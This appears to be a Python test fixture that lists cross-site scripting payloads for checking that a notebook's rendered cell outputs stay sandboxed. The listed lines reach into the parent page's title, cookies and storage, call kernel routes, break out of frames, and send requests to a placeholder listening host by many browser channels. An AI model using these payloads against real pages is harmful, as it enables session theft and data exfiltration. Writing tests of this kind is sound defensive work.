"""Outputs aimed at the page that shows them. `WORD` and `PLACE` (an address that listens) are put in by the test."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """What a cell shows, and as which kinds of data; `script` runs in markup, of which it may be a part."""

    name: str
    markup: str
    kinds: tuple[str, ...] = ("text/html",)


def script(name: str, code: str) -> Payload:
    return Payload(name, f"<script>{code}</script>")


def reach(name: str, markup: str) -> Payload:
    return Payload(name, markup)


TAKE = "<img src=x onerror=\"parent.document.title += 'WORD'\">"
NO_SCRIPT = ("text/plain", "text/markdown", "text/latex", "application/json", "text/x-python", "application/javascript")

PAYLOADS = [
    script("the page's title", "parent.document.title += 'WORD'"),
    script("the top page's title", "top.document.title += 'WORD'"),
    script("the page's storage", "localStorage.setItem('WORD', 'WORD')"),
    script("the page's storage by the page", "parent.localStorage.setItem('WORD', 'WORD')"),
    script("the page's cookies", "document.cookie = 'word=WORD'"),
    script("the page's databases", "indexedDB.open('WORD').onsuccess = () => { parent.document.title += 'WORD' }"),
    script("a function of the page", "parent.eval(\"document.title += 'WORD'\")"),
    script("another page in its place", "top.location = 'http://PLACE/WORD'"),
    script(
        "another page in its place, by a click",
        "document.write('<a target=_top id=a href=http://PLACE/WORD>x</a>'); document.getElementById('a').click()",
    ),
    script(
        "another page in its place, by a form",
        "document.write('<form target=_top id=f action=http://PLACE/WORD></form>'); f.submit()",
    ),
    script("a window of its own", "window.open('http://PLACE/WORD')"),
    script("a dialog", "alert('WORD')"),
    script(
        "the kernel routes",
        "fetch('/kernel/status', {method: 'POST', headers: {'Content-Type': 'application/json'},"
        " body: '{\"token\": \"' + '0'.repeat(48) + '\"}'})"
        ".then(answer => answer.json()).then(found => { parent.document.title += 'WORD' + found.state })",
    ),
    script("the network by fetch", "fetch('http://PLACE/WORD', {mode: 'no-cors'})"),
    script(
        "the network by XMLHttpRequest", "const r = new XMLHttpRequest; r.open('GET', 'http://PLACE/WORD'); r.send()"
    ),
    script("the network by a beacon", "navigator.sendBeacon('http://PLACE/WORD')"),
    script("the network by a socket", "new WebSocket('ws://PLACE/WORD')"),
    script("the network by an event source", "new EventSource('http://PLACE/WORD')"),
    script("the network by a module", "import('http://PLACE/WORD')"),
    script(
        "the network by a worker",
        "new Worker(URL.createObjectURL(new Blob([\"fetch('http://PLACE/WORD', {mode: 'no-cors'})\"])))",
    ),
    script("the network by going there itself", "location = 'http://PLACE/WORD'"),
    reach("the network by being sent there", "<meta http-equiv=refresh content='0; url=http://PLACE/WORD'>"),
    reach("the network by a form of its own", "<form id=f action=http://PLACE/WORD></form><script>f.submit()</script>"),
    reach("the network by an image", "<img src=http://PLACE/WORD>"),
    reach("the network by a frame", "<iframe src=http://PLACE/WORD></iframe>"),
    reach("the network by a script", "<script src=http://PLACE/WORD></script>"),
    reach("the network by a style sheet", "<link rel=stylesheet href=http://PLACE/WORD>"),
    reach("the network by a style", "<style>@import url(http://PLACE/WORD);</style>"),
    reach("the network by a background", "<p style='background: url(http://PLACE/WORD)'>x"),
    reach("the network by a film", "<video autoplay src=http://PLACE/WORD></video>"),
    reach("the network by an object", "<object data=http://PLACE/WORD></object>"),
    reach("the network by a drawing", "<svg><image href=http://PLACE/WORD /></svg>"),
    reach("the network by a hint", "<link rel=preload as=image href=http://PLACE/WORD>"),
    Payload("out of its frame", f"</div></body></html>\"'></iframe></template>{TAKE}"),
    Payload(
        "a drawing with a script",
        "<svg xmlns='http://www.w3.org/2000/svg' onload=\"parent.document.title+='WORD'\"/>",
        ("image/svg+xml",),
    ),
    *(Payload(f"markup as {kind}", TAKE, (kind,)) for kind in NO_SCRIPT),
    Payload("markup as a picture", f'x">{TAKE}', ("image/png", "image/jpeg", "image/gif", "image/svg+xml2")),
]
TEMPLATES = ["${document.title += 'WORD'}", "{{document.title += 'WORD'}}", "<%= document.title += 'WORD' %>"]
